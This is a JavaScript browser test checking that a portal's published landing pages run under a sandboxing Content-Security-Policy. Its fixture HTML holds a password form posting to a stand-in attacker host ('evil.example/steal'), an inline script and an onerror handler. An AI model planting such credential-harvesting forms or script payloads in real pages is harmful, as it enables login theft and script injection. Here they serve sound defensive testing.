// A published landing page is an account's own HTML on the portal's origin: in Chromium, under its
// sandboxing Content-Security-Policy, a password form in it cannot post anywhere and no script runs.
import assert from 'node:assert/strict';
import { test } from '@jest/globals';
import { PASSWORD, useHarness } from './harness.mjs';

/** Solo Studio (packages/db/src/seed.ts), owned by owner@solo.example. */
const SOLO = '00000000-0000-4000-8000-00000000b001';

const h = useHarness();

test('a published page cannot post a form to another site or run a script', async () => {
  const login = await fetch(`${h.baseUrl}/api/auth/login`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ email: 'owner@solo.example', password: PASSWORD }),
  });
  const auth = { Authorization: `Bearer ${JSON.parse(await login.text()).accessToken}`, 'Content-Type': 'application/json' };
  const body =
    '<h1>Spring sale</h1><form action="https://evil.example/steal" method="post"><input name="password" value="secret"><button>Sign in</button></form>' +
    '<script>document.title = "script ran"</script><img src="x" onerror="document.title = \'handler ran\'">';
  const created = await fetch(`${h.baseUrl}/api/accounts/${SOLO}/landing-pages`, { method: 'POST', headers: auth, body: JSON.stringify({ title: 'Spring sale', slug: 'spring-sale-sandbox', bodyHtml: body }) });
  assert.equal(created.status, 201, await created.clone().text());
  const { id } = JSON.parse(await created.text());
  const published = await fetch(`${h.baseUrl}/api/accounts/${SOLO}/landing-pages/${id}/publish`, { method: 'POST', headers: { ...auth, 'If-Match': '"1"' }, body: '{}' });
  assert.equal(published.status, 200, await published.text());

  const requests = [];
  const messages = [];
  await h.inBrowser('public-page-sandboxed', async (page) => {
    page.on('request', (request) => requests.push(request.url()));
    page.on('console', (message) => messages.push(message.text()));
    await page.goto(`${h.baseUrl}/api/public/pages/spring-sale-sandbox`);
    await page.getByRole('heading', { name: 'Spring sale' }).waitFor();
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForTimeout(500);
    assert.equal(new URL(page.url()).pathname, '/api/public/pages/spring-sale-sandbox', 'still on the page');
    assert.equal(await page.title(), 'Spring sale', 'no script or handler ran');
  });
  assert.deepEqual(requests.filter((url) => url.includes('evil.example')), [], 'nothing was sent to the other site');
  assert.ok(messages.some((line) => /Blocked form submission to 'https:\/\/evil\.example\/steal'/.test(line)), messages.join('\n'));
});
